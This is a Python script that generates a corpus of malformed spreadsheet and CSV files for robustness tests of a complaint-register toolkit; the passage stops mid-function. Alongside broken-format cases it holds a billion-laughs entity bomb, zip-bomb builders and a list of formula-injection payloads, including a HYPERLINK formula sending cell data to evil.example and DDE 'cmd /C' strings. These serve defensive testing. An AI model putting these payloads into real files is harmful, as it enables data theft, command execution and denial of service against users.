"""Build the corpus of bad register files that tests/test_badfiles.py runs every command over.

    python tests/badfiles/make_corpus.py OUTDIR      # writes the files and prints what each is

Everything is generated (nothing binary is committed): real xlsx packages written part by part,
a real OLE compound file (the container of encrypted workbooks and legacy .xls), a real BIFF8
.xls, CSVs in several encodings, an entity-expansion bomb and zip bombs. ``build(dest)`` returns a
``Case`` per file with the behaviour the toolkit documents for it (docs/robustness.md):
``read`` (the register is read, with this many rows) or ``error`` (one line on stderr starting
"complaintkit: ", containing ``expect``, and exit code 2).

All personal data here is synthetic: IDs carry valid check digits but belong to nobody.
"""

from __future__ import annotations

import codecs
import random
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterable, Sequence
from xml.sax.saxutils import escape

WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
HEADERS = ["投诉编号", "受理日期", "投诉渠道", "客户姓名", "证件号码", "联系电话", "投诉内容", "处理状态"]
HEADERS_EN = ["complaint id", "date received", "channel", "customer name", "id number", "phone", "description", "status"]


def resident_id(first17: str) -> str:
    """A synthetic ID with a valid GB 11643 check digit."""
    return first17 + "10X98765432"[sum(int(c) * w for c, w in zip(first17, WEIGHTS)) % 11]


ID_1 = resident_id("11010519491231002")
ID_2 = resident_id("31010419850612001")
ID_3 = resident_id("44010619920229003")


def data_rows(n: int = 3) -> list[list[Any]]:
    """``n`` valid complaint rows (text dates, so every format stores them the same way)."""
    ids = [ID_1, ID_2, ID_3]
    rows = []
    for i in range(n):
        rows.append([
            f"T{i + 1:04d}", f"2026-03-{i + 2:02d}", "柜面", ["王小明", "李红", "张伟"][i % 3], ids[i % 3],
            f"1380013{8000 + i}", "信用卡年费被多收，要求退还", "处理中",
        ])
    return rows


@dataclass
class Case:
    """One bad input and what the toolkit promises to do with it."""

    name: str
    path: Path
    what: str
    outcome: str  # "read" or "error"
    expect: str = ""  # error: words the one-line message contains
    rows: int | None = None  # read: records expected
    subprocess: bool = False  # also run through the installed entry point


# --------------------------------------------------------------------------- xlsx, part by part

def col_letter(index: int) -> str:
    """0 -> A, 26 -> AA."""
    out = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        out = chr(65 + rem) + out
    return out


@dataclass
class Formula:
    """A formula cell, with or without the value Excel cached when it last calculated."""

    text: str
    cached: Any = None


def cell_xml(ref: str, value: Any, style: int | None = None) -> str:
    s = f' s="{style}"' if style is not None else ""
    if value is None:
        return f'<c r="{ref}"{s}/>'
    if isinstance(value, Formula):
        if value.cached is None:
            return f'<c r="{ref}"{s}><f>{escape(value.text)}</f></c>'
        if isinstance(value.cached, str):
            return f'<c r="{ref}"{s} t="str"><f>{escape(value.text)}</f><v>{escape(value.cached)}</v></c>'
        return f'<c r="{ref}"{s}><f>{escape(value.text)}</f><v>{value.cached}</v></c>'
    if isinstance(value, bool):
        return f'<c r="{ref}"{s} t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"{s}><v>{value!r}</v></c>'
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: Sequence[Sequence[Any]], *, dimension: str | None = None, hidden_rows: Iterable[int] = (),
              hidden_cols: Iterable[int] = (), merges: Sequence[str] = (), extra_rows: str = "", doctype: str = "") -> str:
    """A worksheet part; rows are 1-based in ``hidden_rows``, columns 1-based in ``hidden_cols``."""
    hidden_rows = set(hidden_rows)
    body = []
    for r, values in enumerate(rows, start=1):
        attrs = ' hidden="1"' if r in hidden_rows else ""
        cells = "".join(cell_xml(f"{col_letter(c)}{r}", v) for c, v in enumerate(values) if v is not None)
        body.append(f'<row r="{r}"{attrs}>{cells}</row>')
    cols = "".join(f'<col min="{c}" max="{c}" width="0" hidden="1" customWidth="1"/>' for c in sorted(hidden_cols))
    parts = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        doctype,
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">',
    ]
    if dimension:
        parts.append(f'<dimension ref="{dimension}"/>')
    if cols:
        parts.append(f"<cols>{cols}</cols>")
    parts.append("<sheetData>" + "".join(body) + extra_rows + "</sheetData>")
    if merges:
        parts.append(f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges) + "</mergeCells>")
    parts.append("</worksheet>")
    return "".join(parts)


def xlsx_parts(sheets: Sequence[tuple[str, ...]], shared_strings: str | None = None) -> dict[str, bytes]:
    """The parts of a minimal valid workbook package: (name, sheet XML[, "hidden"]) per sheet."""
    ct_sheets = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    ct_ss = ('<Override PartName="/xl/sharedStrings.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>') if shared_strings else ""
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{ct_sheets}{ct_ss}</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            + "".join(f'<sheet name="{escape(name)}" sheetId="{i}"{state} r:id="rId{i}"/>'
                      for i, (name, _, state) in enumerate(((s[0], s[1], f' state="{s[2]}"' if len(s) > 2 else "") for s in sheets), start=1))
            + "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(
                f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(sheets) + 1)
            )
            + (f'<Relationship Id="rId{len(sheets) + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
               'Target="sharedStrings.xml"/>' if shared_strings else "")
            + "</Relationships>"
        ),
    }
    for i, sheet in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheet[1]
    if shared_strings:
        parts["xl/sharedStrings.xml"] = shared_strings
    return {k: v.encode("utf-8") if isinstance(v, str) else v for k, v in parts.items()}


#: A row holding one value in XFD1048576, the grid's last cell: reading it means 17 billion cells.
FAR_CELL = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'


def write_zip(path: Path, parts: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def write_xlsx(path: Path, rows: Sequence[Sequence[Any]], **sheet_kw: Any) -> Path:
    """A one-sheet workbook named 台账 holding ``rows``."""
    return write_zip(path, xlsx_parts([("台账", sheet_xml(rows, **sheet_kw))]))


def register_rows(n: int = 3) -> list[list[Any]]:
    return [HEADERS, *data_rows(n)]


# --------------------------------------------------------------------------- zip bombs

def _deflate_repeated(chunk: bytes, times: int) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``chunk`` repeated ``times`` times, built without inflating it
    here: one fully flushed segment compresses identically every time, so it is repeated."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)  # an empty final block
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    return segment * times + tail, crc, len(chunk) * times


def _zip_with_raw_member(path: Path, parts: dict[str, bytes], name: str, raw: bytes, crc: int,
                         size: int, declared_size: int | None = None) -> Path:
    """Write ``parts`` plus one member whose deflate data is ``raw`` (and whose stated size may lie)."""
    stated = size if declared_size is None else declared_size
    out = bytearray()
    central = bytearray()
    entries = [(n, d) for n, d in parts.items() if n != name] + [(name, None)]
    for entry, data in entries:
        offset = len(out)
        if data is None:
            payload, entry_crc, entry_size = raw, crc, stated
        else:
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            payload, entry_crc, entry_size = comp.compress(data) + comp.flush(), zlib.crc32(data), len(data)
        fname = entry.encode()
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, entry_crc, len(payload), entry_size, len(fname), 0)
        out += fname + payload
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, entry_crc, len(payload),
                               entry_size, len(fname), 0, 0, 0, 0, 0, offset) + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


# --------------------------------------------------------------------------- OLE compound files

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole_file(streams: dict[str, bytes], mini: bool = False) -> bytes:
    """A minimal valid OLE2 compound file (v3, 512-byte sectors) holding ``streams`` in its root.

    With ``mini``, streams under 4096 bytes live in the mini stream (64-byte sectors), as in files
    Excel writes; otherwise every stream is padded to 4096 bytes and lives in regular sectors."""
    sector = 512
    names = sorted(streams, key=lambda n: (len(n), n.upper()))  # the directory's sort order
    small = [n for n in names if mini and len(streams[n]) < 4096]
    big = [n for n in names if n not in small]
    data = {n: streams[n] + b"\0" * max(0, 4096 - len(streams[n])) for n in big}
    data = {n: d + b"\0" * (-len(d) % sector) for n, d in data.items()}
    sizes = {n: len(streams[n]) if len(streams[n]) >= 4096 else len(data[n]) for n in big}
    # The mini stream: small streams in 64-byte sectors, chained by the mini FAT.
    mini_fat: list[int] = []
    container = b""
    for n in small:
        count = max(1, -(-len(streams[n]) // 64))
        starts_at = len(mini_fat)
        mini_fat += [starts_at + i + 1 for i in range(count - 1)] + [_END]
        container += streams[n].ljust(count * 64, b"\0")
        sizes[n] = len(streams[n])
    mini_fat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat) if mini_fat else b""
    mini_fat_bytes += struct.pack("<I", _FREE) * (-len(mini_fat) % (sector // 4))
    container_padded = container + b"\0" * (-len(container) % sector)
    entries = 1 + len(names)
    dir_sectors = -(-entries * 128 // sector)
    minifat_sectors = len(mini_fat_bytes) // sector
    data_sectors = sum(len(d) // sector for d in data.values()) + len(container_padded) // sector
    fat_sectors = 1
    while fat_sectors * (sector // 4) < fat_sectors + dir_sectors + minifat_sectors + data_sectors:
        fat_sectors += 1
    fat = [_FAT] * fat_sectors

    def chain(count: int) -> int:
        first = len(fat)
        fat.extend([first + i + 1 for i in range(count - 1)] + [_END])
        return first

    first_dir = chain(dir_sectors)
    first_minifat = chain(minifat_sectors) if minifat_sectors else _END
    root_start = chain(len(container_padded) // sector) if container else _END
    starts = {n: chain(len(data[n]) // sector) for n in big}
    mini_starts, at = {}, 0
    for n in small:
        mini_starts[n] = at
        at += max(1, -(-len(streams[n]) // 64))
    fat += [_FREE] * (fat_sectors * (sector // 4) - len(fat))

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", left, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IQ", start, size))

    # Children hang off the root as a chain of right siblings, in directory order.
    directory = entry("Root Entry", 5, _FREE, _FREE, 1 if names else _FREE, root_start, len(container))
    for i, n in enumerate(names, start=1):
        start = mini_starts[n] if n in small else starts[n]
        directory += entry(n, 2, _FREE, i + 1 if i < len(names) else _FREE, _FREE, start, sizes[n])
    directory = directory.ljust(dir_sectors * sector, b"\0")
    difat = list(range(fat_sectors)) + [_FREE] * (109 - fat_sectors)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_sectors, first_dir, 0, 4096, first_minifat, minifat_sectors, _END, 0)
              + struct.pack("<109I", *difat))
    body = (struct.pack(f"<{len(fat)}I", *fat) + directory + mini_fat_bytes + container_padded
            + b"".join(data[n] for n in big))
    return header + body


def _record(kind: int, payload: bytes) -> bytes:
    return struct.pack("<HH", kind, len(payload)) + payload


def biff8_workbook(rows: Sequence[Sequence[Any]], sheet: str = "台账", password: bool = False) -> bytes:
    """The "Workbook" stream of a real Excel 97-2003 file (BIFF8): text in the shared string
    table, numbers as NUMBER records. ``password`` adds the FILEPASS record of an RC4-encrypted book."""
    strings: list[str] = []
    index: dict[str, int] = {}
    cells = []
    for r, values in enumerate(rows):
        for c, v in enumerate(values):
            if v is None:
                continue
            if isinstance(v, (int, float)) and not isinstance(v, bool):
                cells.append(_record(0x0203, struct.pack("<HHHd", r, c, 0, float(v))))
            else:
                text = str(v)
                if text not in index:
                    index[text] = len(strings)
                    strings.append(text)
                cells.append(_record(0x00FD, struct.pack("<HHHI", r, c, 0, index[text])))
    sst = struct.pack("<II", len(cells), len(strings)) + b"".join(
        struct.pack("<HB", len(s), 1) + s.encode("utf-16-le") for s in strings
    )
    bof_globals = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6))
    filepass = _record(0x002F, struct.pack("<HHH", 1, 1, 1) + bytes(range(48))) if password else b""
    codepage = _record(0x0042, struct.pack("<H", 1200))
    name = sheet.encode("utf-16-le")

    def boundsheet(offset: int) -> bytes:
        return _record(0x0085, struct.pack("<IBBBB", offset, 0, 0, len(sheet), 1) + name)

    eof = _record(0x000A, b"")
    head_len = len(bof_globals + filepass + codepage + boundsheet(0) + _record(0x00FC, sst) + eof)
    width = max((len(r) for r in rows), default=0)
    sheet_stream = (
        _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 6))
        + _record(0x0200, struct.pack("<IIHHH", 0, len(rows), 0, width, 0))
        + b"".join(cells) + eof
    )
    return bof_globals + filepass + codepage + boundsheet(head_len) + _record(0x00FC, sst) + eof + sheet_stream


# --------------------------------------------------------------------------- CSV

def csv_text(rows: Sequence[Sequence[Any]], delimiter: str = ",") -> str:
    import csv
    import io

    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


# --------------------------------------------------------------------------- the corpus

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10))
    + "]>"
)

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
    "\t=1+1", "\r=1+1", "＝1+1", "=cmd|' /C notepad'!'A1'",
]


def build(dest: Path) -> list[Case]:
    """Write every corpus file under ``dest`` and return what the toolkit does with each."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    rng = random.Random(20261120)
    cases: list[Case] = []

    def add(name: str, path: Path, what: str, outcome: str, expect: str = "", rows: int | None = None, sub: bool = False) -> None:
        cases.append(Case(name, path, what, outcome, expect, rows, sub))

    good = write_xlsx(dest / "good.xlsx", register_rows())
    good_bytes = good.read_bytes()
    add("good", good, "a valid register (the control)", "read", rows=3, sub=True)

    (dest / "empty.xlsx").write_bytes(b"")
    add("empty_xlsx", dest / "empty.xlsx", "0-byte .xlsx", "error", "empty file (0 bytes)")
    (dest / "empty.csv").write_bytes(b"")
    add("empty_csv", dest / "empty.csv", "0-byte .csv", "error", "empty file (0 bytes)")

    png = b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(2000))
    (dest / "photo.xlsx").write_bytes(png)
    add("not_spreadsheet", dest / "photo.xlsx", "a picture renamed .xlsx", "error", "is not a real .xlsx workbook")
    (dest / "photo.csv").write_bytes(png)
    add("binary_as_csv", dest / "photo.csv", "a picture renamed .csv", "error", "is not a spreadsheet or a CSV text file")
    (dest / "notes.xlsx").write_text("这不是表格，只是一段文字。\n", "utf-8")
    add("text_as_xlsx", dest / "notes.xlsx", "a text file renamed .xlsx", "error", "is not a real .xlsx workbook")

    (dest / "truncated.xlsx").write_bytes(good_bytes[: len(good_bytes) // 2])
    add("truncated_zip", dest / "truncated.xlsx", "an .xlsx cut off half-way (interrupted copy)", "error", "damaged workbook")
    write_zip(dest / "random.xlsx", {"readme.txt": b"hello", "data.bin": bytes(100)})
    add("zip_not_workbook", dest / "random.xlsx", "a zip archive that is not a workbook", "error", "is a zip file but not an Excel workbook")
    write_zip(dest / "calc.xlsx", {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})
    add("opendocument", dest / "calc.xlsx", "an OpenDocument spreadsheet renamed .xlsx", "error", "is an OpenDocument spreadsheet")
    parts = xlsx_parts([("台账", sheet_xml(register_rows()))])
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:300]
    write_zip(dest / "broken_xml.xlsx", parts)
    add("broken_sheet_xml", dest / "broken_xml.xlsx", "a workbook whose sheet XML is cut off", "error", "cannot be read")

    encrypted = ole_file({
        "EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>',
        "EncryptedPackage": struct.pack("<Q", 9000) + bytes(rng.randrange(256) for _ in range(9000)),
        "\x06DataSpaces": b"",
    })
    (dest / "encrypted.xlsx").write_bytes(encrypted)
    add("encrypted_xlsx", dest / "encrypted.xlsx", "a password-protected .xlsx (OLE container with EncryptionInfo/EncryptedPackage)", "error", "password-protected", sub=True)

    (dest / "legacy.xls").write_bytes(ole_file({"Workbook": biff8_workbook(register_rows())}))
    add("legacy_xls", dest / "legacy.xls", "an Excel 97-2003 .xls (BIFF8)", "read", rows=3, sub=True)
    (dest / "legacy_small.xls").write_bytes(ole_file({"Workbook": biff8_workbook(register_rows(1))}, mini=True))
    add("legacy_xls_mini_stream", dest / "legacy_small.xls", "a small .xls whose workbook lives in the compound file's mini stream", "read", rows=1)
    far = register_rows(1) + [[None] * 200 + ["x"]]
    far_rows = biff8_workbook(far)
    far_rows = far_rows.replace(struct.pack("<HHH", 2, 200, 0), struct.pack("<HHH", 60000, 60000, 0))  # that cell, moved far out
    (dest / "legacy_far_cell.xls").write_bytes(ole_file({"Workbook": far_rows}))
    add("legacy_xls_far_cell", dest / "legacy_far_cell.xls", "an .xls with a value at row 60,001, column 60,001 (the reader used to need 20 GB)", "error", "far outside the register", sub=True)
    (dest / "legacy_password.xls").write_bytes(ole_file({"Workbook": biff8_workbook(register_rows(), password=True)}))
    add("legacy_xls_password", dest / "legacy_password.xls", "a password-protected Excel 97-2003 .xls", "error", "password-protected")
    (dest / "legacy_junk.xls").write_bytes(ole_file({"Workbook": bytes(rng.randrange(256) for _ in range(5000))}))
    add("legacy_xls_damaged", dest / "legacy_junk.xls", "an OLE file whose Workbook stream is garbage", "error", "cannot be read as an xls workbook")
    damaged = bytearray(ole_file({"Workbook": biff8_workbook(register_rows())}))
    damaged[76:80] = struct.pack("<I", _FAT)  # the sector table now points at itself
    (dest / "damaged_ole.xls").write_bytes(bytes(damaged))
    add("ole_damaged_tables", dest / "damaged_ole.xls", "an .xls whose sector tables are inconsistent (made the reader panic)", "error", "damaged")
    (dest / "letter.xls").write_bytes(ole_file({"WordDocument": b"\xec\xa5" + bytes(5000)}))
    add("word_as_xls", dest / "letter.xls", "a Word .doc renamed .xls", "error", "not an Excel workbook")

    html = ('<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8"></head><body><table>'
            + "".join("<tr>" + "".join(f"<td>{escape(str(v))}</td>" for v in row) + "</tr>" for row in register_rows())
            + "</table></body></html>")
    (dest / "web_export.xls").write_text(html, "utf-8")
    add("html_as_xls", dest / "web_export.xls", "an HTML table saved as .xls (bank-system export)", "error", "web page")

    text = csv_text(register_rows())
    (dest / "utf8.csv").write_bytes(text.encode("utf-8"))
    add("csv_utf8", dest / "utf8.csv", "CSV, UTF-8 without BOM", "read", rows=3)
    (dest / "utf8_bom.csv").write_bytes(codecs.BOM_UTF8 + text.encode("utf-8"))
    add("csv_utf8_bom", dest / "utf8_bom.csv", "CSV, UTF-8 with BOM (Excel 'CSV UTF-8')", "read", rows=3)
    (dest / "gbk.csv").write_bytes(text.encode("gbk"))
    add("csv_gbk", dest / "gbk.csv", "CSV, GBK (Chinese Windows Excel)", "read", rows=3)
    (dest / "unicode_text.csv").write_bytes(codecs.BOM_UTF16_LE + csv_text(register_rows(), "\t").encode("utf-16-le"))
    add("csv_utf16_bom_tabs", dest / "unicode_text.csv", "Excel 'Unicode text': UTF-16 LE with BOM, tab-separated", "read", rows=3)
    (dest / "utf16_no_bom.csv").write_bytes(text.encode("utf-16-le"))
    add("csv_utf16_no_bom", dest / "utf16_no_bom.csv", "CSV, UTF-16 LE without BOM", "read", rows=3, sub=True)
    (dest / "utf16be_no_bom.csv").write_bytes(text.encode("utf-16-be"))
    add("csv_utf16be_no_bom", dest / "utf16be_no_bom.csv", "CSV, UTF-16 BE without BOM", "read", rows=3)
    japanese = csv_text([["苦情番号", "受付日", "チャネル", "顧客名", "内容", "状態"], ["J001", "2026-03-02", "窓口", "山田太郎", "カード年会費", "処理中"]])
    (dest / "shift_jis.csv").write_bytes(japanese.encode("shift_jis"))
    add("csv_shift_jis", dest / "shift_jis.csv", "CSV in Shift-JIS (Japanese)", "error", "encoding")
    junk = bytes(rng.choice(range(0x80, 0x100)) for _ in range(3000))
    (dest / "junk.csv").write_bytes(junk)
    add("csv_binary_junk", dest / "junk.csv", "high-bit binary junk named .csv (no NUL bytes)", "error", "encoding")
    (dest / "unterminated.csv").write_text(text + '"T0009,2026-03-09,柜面,王五' + "x" * 5000, "utf-8")
    add("csv_unterminated_quote", dest / "unterminated.csv", "CSV whose last field opens a quote that never closes", "read", rows=4)

    write_xlsx(dest / "no_header.xlsx", data_rows())
    add("no_header", dest / "no_header.xlsx", "data rows with no header row", "error", "no header row found")
    write_xlsx(dest / "header_only.xlsx", [HEADERS])
    add("header_only", dest / "header_only.xlsx", "a header row and nothing else", "read", rows=0)
    write_xlsx(dest / "blank.xlsx", [])
    add("blank_sheet", dest / "blank.xlsx", "a workbook whose only sheet is empty", "error", "has no data")
    write_xlsx(dest / "hidden.xlsx", [["某某银行投诉登记台账"], HEADERS, *data_rows(3)], hidden_rows=[3, 4], hidden_cols=[5, 6])
    add("hidden_rows_cols", dest / "hidden.xlsx", "hidden rows and hidden columns inside the register", "read", rows=3)
    old_register = sheet_xml([HEADERS, *data_rows(3), *data_rows(2)])
    write_zip(dest / "hidden_sheet.xlsx", xlsx_parts([("旧台账", old_register, "hidden"), ("台账", sheet_xml(register_rows()))]))
    add("hidden_sheet", dest / "hidden_sheet.xlsx", "a hidden sheet holding an old register before the visible one", "read", rows=3)
    merged_rows = [HEADERS, *data_rows(3)]
    merged_rows[2][2] = merged_rows[3][2] = None  # the channel of rows 3-4 comes from the merge
    merged_rows[2][7] = merged_rows[3][7] = None
    write_xlsx(dest / "merged.xlsx", merged_rows, merges=["C2:C4", "H2:H4", "A5:B5"], extra_rows="")
    add("merged_cells", dest / "merged.xlsx", "merged cells inside the data (channel and status)", "read", rows=3)
    totals_rows = [HEADERS, *data_rows(3), ["合计"], ["小计", 3, None, None, None, None, "3件"],
                   ["制表人：张三", None, None, None, "审核：李四"], ["以下空白"]]
    write_xlsx(dest / "totals.xlsx", totals_rows, merges=["A5:H5", "A8:H8"])
    add("totals_rows", dest / "totals.xlsx", "a 合计 row merged across the sheet, a 小计 row with counts, sign-offs under the table", "read", rows=3)
    write_xlsx(dest / "duplicate_column.xlsx", [[*HEADERS, "联系电话", "手机号码"], *[r + ["12345", None] for r in data_rows(3)]])
    add("duplicate_column", dest / "duplicate_column.xlsx", "a second 联系电话 column, and 手机号码 (another name of it)", "read", rows=3)

    formula_rows = [HEADERS, *data_rows(3)]
    formula_rows[1][0] = Formula('"T"&TEXT(1,"0000")', "T0001")
    formula_rows[2][1] = Formula("DATE(2026,3,3)", 46084)
    write_xlsx(dest / "formulas_cached.xlsx", formula_rows)
    add("formulas_cached", dest / "formulas_cached.xlsx", "formulas with the values Excel cached", "read", rows=3)
    formula_rows = [HEADERS, *data_rows(3)]
    formula_rows[1][0] = Formula('"T"&TEXT(1,"0000")')
    formula_rows[2][1] = Formula("DATE(2026,3,3)")
    write_xlsx(dest / "formulas_uncached.xlsx", formula_rows)
    add("formulas_uncached", dest / "formulas_uncached.xlsx", "formulas never calculated (no cached values, e.g. written by a script)", "read", rows=3)

    long_rows = [HEADERS, *data_rows(3)]
    long_rows[1][6] = "信用卡年费" * 6400  # 32,000 characters
    long_rows[2][2] = "柜" * 32767  # Excel's maximum, in a checked field: its finding quotes it
    write_xlsx(dest / "long_cells.xlsx", long_rows)
    add("long_cells", dest / "long_cells.xlsx", "32,000- and 32,767-character cells (Excel's maximum)", "read", rows=3, sub=True)

    write_xlsx(dest / "million_rows_declared.xlsx", register_rows(), dimension="A1:XFD1048576")
    add("dimension_million", dest / "million_rows_declared.xlsx", "a sheet whose dimension declares 1,048,576 rows x 16,384 columns but holds 4", "read", rows=3)
    styled = '<row r="1048576"><c r="A1048576" s="0"/><c r="XFD1048576" s="0"/></row>'
    write_xlsx(dest / "styled_bottom.xlsx", register_rows(), extra_rows=styled)
    add("styled_last_row", dest / "styled_bottom.xlsx", "formatted (empty) cells down to row 1,048,576", "read", rows=3, sub=True)

    write_xlsx(dest / "stray_value_xfd.xlsx", register_rows(), extra_rows=FAR_CELL)
    add("stray_value_far", dest / "stray_value_xfd.xlsx", "one stray value in XFD1048576, the last cell of the grid", "error", "far outside the register", sub=True)
    stray = '<row r="100000"><c r="A100000" t="inlineStr"><is><t>x</t></is></c></row>'
    write_xlsx(dest / "stray_value_a.xlsx", register_rows(), extra_rows=stray)
    add("stray_value_bottom", dest / "stray_value_a.xlsx", "one stray value in A100000, far below the register (read; the stray row is a finding)", "read", rows=4)
    sneaky = ('<row><c><v>1</v></c></row>' * 3) + '<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="900000">' \
        + '<x:c r="zz900000"><x:v>1</x:v></x:c></x:row>'
    write_xlsx(dest / "stray_value_disguised.xlsx", register_rows(), extra_rows=sneaky)
    add("stray_value_disguised", dest / "stray_value_disguised.xlsx", "a far stray value disguised (namespace prefix, lower-case reference, rows without numbers)", "error", "far outside the register")

    twice = sheet_xml(register_rows()).replace('<c r="C4" ', '<c r="C4" r="XFD1048576" ')
    write_zip(dest / "stray_value_second_ref.xlsx", xlsx_parts([("台账", twice)]))
    add("stray_value_second_ref", dest / "stray_value_second_ref.xlsx", "a cell with two references, the second in XFD1048576 (found by fuzzing)", "error", "far outside the register")
    glued = sheet_xml(register_rows()).replace('<c r="A2" ', '<c r="A2"r="A99999999999" ')
    write_zip(dest / "stray_value_glued_ref.xlsx", xlsx_parts([("台账", glued)]))
    add("stray_value_glued_ref", dest / "stray_value_glued_ref.xlsx", "a second reference glued to the first, past the last row (found by fuzzing)", "error", "far outside the register")
    # The guard must check the part the reader parses, however the package names it (found in review).
    far_sheet, fine_sheet = sheet_xml(register_rows(), extra_rows=FAR_CELL), sheet_xml(register_rows())
    write_zip(dest / "stray_value_twin_sheet.xlsx", xlsx_parts([("台账", far_sheet), ("台账", fine_sheet)]))
    add("stray_value_twin_sheet", dest / "stray_value_twin_sheet.xlsx", "two sheets named 台账, the first with a value in XFD1048576", "error", "far outside the register")
    parts = xlsx_parts([("台账", far_sheet), ("Other", fine_sheet)])
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"xl/workbook.xml", b"xl/wb2.xml")
    parts["xl/wb2.xml"] = parts["xl/workbook.xml"].replace(b'r:id="rId1"', b'r:id="rIdX"').replace(b'r:id="rId2"', b'r:id="rId1"').replace(b'r:id="rIdX"', b'r:id="rId2"')
    parts["xl/_rels/wb2.xml.rels"] = parts["xl/_rels/workbook.xml.rels"]
    write_zip(dest / "stray_value_other_workbook.xlsx", parts)
    add("stray_value_other_workbook", dest / "stray_value_other_workbook.xlsx", "a package pointing at a second workbook part whose 台账 is a harmless sheet, where the reader reads xl/workbook.xml (台账: a value in XFD1048576)", "error", "far outside the register")
    parts = xlsx_parts([("台账", fine_sheet)])
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"worksheets/sheet1.xml", b"worksheets/./sheet1.xml")
